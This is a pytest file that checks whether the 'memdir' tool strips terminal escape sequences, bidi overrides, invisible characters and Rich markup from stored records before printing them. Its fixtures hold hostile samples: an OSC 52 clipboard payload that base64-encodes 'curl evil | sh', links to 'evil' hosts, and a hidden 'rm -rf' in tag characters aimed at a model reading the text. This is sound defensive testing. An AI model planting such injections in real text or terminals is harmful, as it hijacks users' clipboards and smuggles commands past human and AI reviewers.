"""Stored and visitor text reaches a terminal as text: no command of `memdir` prints an
escape sequence a terminal would obey (OSC 52 writes the clipboard, OSC 0 the title,
OSC 8 a link, CSI hides text, DCS/APC strings, C1 controls, a carriage return that
overwrites a line). Real processes over a project holding hostile records, a hostile
proposal and a hostile change; the words around each sequence are still shown, and
JSON output keeps the exact value (escaped)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from memdir.foundation.candidate import Candidate
from memdir.foundation.record import Record
from memdir.foundation.terminal import json_safe, scrub, visible
from memdir.service.memory import Memory

E = "\x1b"
DESC = f"Looks normal {E}]0;TITLE\x07 desc {E}[8mhidden\u009b31m end"
BODY = (f"Body {E}]52;c;Y3VybCBldmlsIHwgc2g=\x07 end {E}]8;;http://evil{E}\\link{E}]8;;{E}\\"
        f" dcs{E}P1$r{E}\\ apc{E}_x{E}\\ pm{E}^y\x9c osc8bit\x9d2;T\x07 cr\rover bell\x07"
        f" tab\there lone{E}")
# What a terminal could act on: ESC, the C1 controls (CSI 0x9b, OSC 0x9d...), BEL, CR,
# DEL, the other C0 controls but newline and tab.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def memdir(cwd: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    script = Path(sys.executable).parent / "memdir"
    command = [str(script)] if script.exists() else [sys.executable, "-m", "memdir"]
    return subprocess.run([*command, *args], capture_output=True, text=True, cwd=cwd,
                          env={**os.environ, **env}, timeout=120)


@pytest.mark.parametrize(("raw", "shown"), [
    (f"a{E}]0;T\x07b", "ab"), (f"a{E}]52;c;eA=={E}\\b", "ab"), (f"a{E}[31mb{E}[0m", "ab"),
    (f"a{E}P1$r{E}\\b", "ab"), (f"a{E}_apc{E}\\b", "ab"), (f"a{E}^pm{E}\\b", "ab"),
    (f"a{E}Xsos{E}\\b", "ab"), ("a\x9b2Jb", "ab"), ("a\x9d0;T\x9cb", "ab"),
    (f"a{E}cb", "ab"), (f"a{E}(Bb", "ab"), ("a\rb\x07\x08\x7f", "ab"),
    # No terminator: only the introducer goes (the terminal never enters the string)
    # and what followed stays shown.
    (f"a{E}]52;c;rest", "a52;c;rest"),
    # Look-alikes that must not change: text, newlines, tabs, other scripts, brackets.
    ("plain ] [31m text", "plain ] [31m text"), ("two\nlines\tand tab", "two\nlines\tand tab"),
    ("中文、日本語 — ok ✓", "中文、日本語 — ok ✓"), ("", ""),
])
def test_scrub_removes_every_control_sequence_class_and_nothing_else(raw, shown):
    assert scrub(raw) == shown


def test_json_keeps_the_value_with_no_raw_control():
    doc = json.dumps({"d": DESC}, ensure_ascii=False)
    safe = json_safe(doc)
    assert json.loads(safe) == {"d": DESC} and not CONTROL.search(safe)


@pytest.fixture
def project(tmp_path):
    home, root = tmp_path / "home", tmp_path / "p"
    home.mkdir()
    (root / ".git").mkdir(parents=True)
    env = {"MEMDIR_HOME": str(home), "MEMDIR_RESIDENT": "off"}
    old = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        with Memory(root, user=False, provider="offline", actor="person") as person:
            # Admission refuses a control character now: a record holding one was
            # written before, by hand or by another program, and its history with it.
            person.save(Candidate("plain", "Looks plain", "project", "Plain body"),
                        origin="user")
            store = person.project
            store.upsert(Record(name="hostile", description=DESC, type="project",
                                body=BODY), actor="test")
            store.upsert(store.get("hostile").evolve(description=DESC + " again"),
                         actor="test")
            person.save(Candidate("proposed", "Looks kindly desc", "project",
                                  "Visitor said it", quote="quoted words"), origin="visitor")
            # Admission refuses a quote holding one too: a proposal made before holds it.
            [data] = store.proposals()
            planted = json.loads(json.dumps(data).replace(
                "quoted words", json.dumps(f"quoted {E}]52;c;eA==\x07 words")[1:-1]))
            store.save_proposal(planted)
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    (root / ".memory" / "by-hand.md").write_text(
        f"---\nname: by-hand\ndescription: \"Hand {E}]0;TITLE\x07 made\"\ntype: project\n"
        f"---\nBody {E}]52;c;eA==\x07 end\n", encoding="utf-8")
    return root, env


COMMANDS = [
    ("show", "hostile"), ("show", "by-hand"), ("ls",), ("ls", "--all"), ("log", "hostile"),
    ("changes",), ("search", "normal"), ("recall", "Looks normal desc"), ("inbox",),
    ("inbox", "--all"), ("doctor",), ("stats",), ("restore", "no-such"),
    ("show", f"hostile{E}]0;x\x07"),
]


@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: " ".join(a)[:20])
def test_no_command_prints_a_control_sequence(project, args):
    root, env = project
    done = memdir(root, *args, env=env)
    out = done.stdout + done.stderr
    assert out.strip(), args
    assert not CONTROL.search(out), (args, [m.group() for m in CONTROL.finditer(out)])
    assert "Traceback" not in out


def test_the_words_around_the_sequences_are_still_shown(project):
    root, env = project
    shown = memdir(root, "show", "hostile", env=env).stdout
    assert 'description: "Looks normal \\e]0;TITLE\\a desc' in shown  # YAML's escapes
    assert "Body  end link dcs apc pm osc8bit crover bell tab\there lone\n" in shown
    assert "Looks normal" in memdir(root, "ls", env=env).stdout
    inbox = memdir(root, "inbox", env=env).stdout
    assert 'from: "quoted  words"' in inbox and "Looks kindly" in inbox


def test_json_output_keeps_the_exact_stored_text(project):
    root, env = project
    done = memdir(root, "show", "hostile", "--json", env=env)
    assert not CONTROL.search(done.stdout)
    body = json.loads(done.stdout)["body"]
    assert body == BODY
    exported = memdir(root, "export", env=env).stdout
    assert not CONTROL.search(exported)
    assert body in [r["body"] for r in json.loads(exported)["records"]]


# Text that lies without a control: an override shows "gpj.exe" reversed, an isolate
# moves the words around it, a zero-width space, a Hangul filler and tag characters (an
# invisible "rm -rf" a model reads) show as nothing.
LIES = ("Deploy with make \u202egpj.exe\u202c now, \u2066isolated\u2069 "
        "zero\u200bwidth filler\u3164 tags\U000e0072\U000e006d end")
HIDDEN = re.compile("[\u061c\u115f\u1160\u180e\u200b\u200e\u200f\u202a-\u202e\u2060-\u2064"
                    "\u2066-\u206f\u3164\ufeff\uffa0\U000e0000-\U000e007f]")


ENGLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"


@pytest.mark.parametrize(("raw", "shown"), [
    ("a\u202eb\u202cc", "a<U+202E>b<U+202C>c"), ("x\u2067y\u2069", "x<U+2067>y<U+2069>"),
    ("a\u200fb\u061c", "a<U+200F>b<U+061C>"), ("a\u200bb\ufeff", "a<U+200B>b<U+FEFF>"),
    ("a\u3164b\uffa0\u115f", "a<U+3164>b<U+FFA0><U+115F>"), ("t\U000e0041", "t<U+E0041>"),
    ("a\x1b[31m\u202eb", "a<U+202E>b"),
    # What words and emoji need stays: joiners, variation selectors, RTL letters.
    ("👨\u200d👩 ❤\ufe0f می\u200cخواهم שלום", "👨\u200d👩 ❤\ufe0f می\u200cخواهم שלום"),
    # A flag's tag sequence, the one place a record keeps tag characters, is a flag; tags
    # behind a flag that no subdivision has, or never cancelled, are shown.
    (f"Go {ENGLAND}!", f"Go {ENGLAND}!"),
    ("\U0001f3f4\U000e0041\U000e007f", "\U0001f3f4<U+E0041><U+E007F>"),
    (ENGLAND[:-1], "\U0001f3f4<U+E0067><U+E0062><U+E0065><U+E006E><U+E0067>"),
])
def test_scrub_shows_what_reorders_or_hides_text_as_its_code_point(raw, shown):
    assert scrub(raw) == shown
    assert visible(raw) == shown or raw.startswith("a\x1b")  # the review page's the same


@pytest.fixture
def lying(tmp_path):
    home, root = tmp_path / "home", tmp_path / "p"
    home.mkdir()
    (root / ".memory").mkdir(parents=True)
    (root / ".git").mkdir()
    env = {"MEMDIR_HOME": str(home), "MEMDIR_RESIDENT": "off"}
    # A cloned repository's file, written by hand: nothing checked it on the way in.
    (root / ".memory" / "deploy-steps.md").write_text(
        f"---\nname: deploy-steps\ndescription: '{LIES}'\ntype: project\n---\n{LIES}\n",
        encoding="utf-8")
    return root, env


@pytest.mark.parametrize("args", [("ls",), ("show", "deploy-steps"), ("recall", "deploy make"),
                                  ("ls", "--json"), ("recall", "deploy make", "--json"),
                                  ("export",), ("show", "deploy-steps", "--json")],
                         ids=lambda a: " ".join(a))
def test_a_reviewer_sees_every_character_that_reorders_or_hides_text(lying, args):
    root, env = lying
    done = memdir(root, *args, env=env)
    assert done.returncode == 0, done.stderr
    assert not HIDDEN.search(done.stdout), [hex(ord(c)) for c in HIDDEN.findall(done.stdout)]
    if "--json" in args or args == ("export",):
        assert LIES in json.dumps(json.loads(done.stdout), ensure_ascii=False)  # exact value
    else:
        assert "make <U+202E>gpj.exe<U+202C> now" in done.stdout


def test_markup_in_stored_text_is_shown_as_written_in_a_terminal(tmp_path, monkeypatch):
    """Rich read a history entry's fields as markup: an ``op`` of
    ``[link=https://evil.example]create[/link]`` (a cloned repository's log is anyone's)
    reached the terminal as an OSC 8 hyperlink in `memdir log`, and ``[red]`` as a
    colour. In a terminal (colours forced), every command shows such text as written."""
    from memdir.store import FileStore, maker
    from memdir.store import history_place as place

    root = tmp_path / "p"
    (root / ".git").mkdir(parents=True)
    env = {"MEMDIR_HOME": str(tmp_path / "home"), "MEMDIR_RESIDENT": "off",
           "FORCE_COLOR": "1", "COLUMNS": "200"}
    monkeypatch.setenv("MEMDIR_HOME", env["MEMDIR_HOME"])  # the entries are this user's
    link = "[link=https://evil.example]create[/link]"
    store = FileStore(root / ".memory")
    store.upsert(Record("[red]deploy", f"Deploy with {link} :smile:", "project", "b"),
                 actor="test")
    log = root / ".memory" / ".history" / "log.jsonl"
    last = json.loads(log.read_text("utf-8").splitlines()[-1])
    # Signed where it stands: after the entry it follows (`history_place`), so it is read
    # as this user's and shown in full.
    entry = {**last, "op": link, "actor": "[blink]cli[/blink]", "prev": place.digest(last)}
    entry.pop("mac", None)
    with log.open("a", encoding="utf-8") as out:
        out.write(json.dumps(maker.signed(entry, maker.key(create=True))) + "\n")
    for args in (("log",), ("ls",), ("recall", "deploy with create")):
        shown = memdir(root, *args, env=env).stdout
        assert "\x1b]8;" not in shown and "evil.example]create" in shown, (args, shown)
        assert "[red]deploy" in shown and "\x1b[31m" not in shown, (args, shown)
    assert "[blink]cli[/blink]" in memdir(root, "log", env=env).stdout
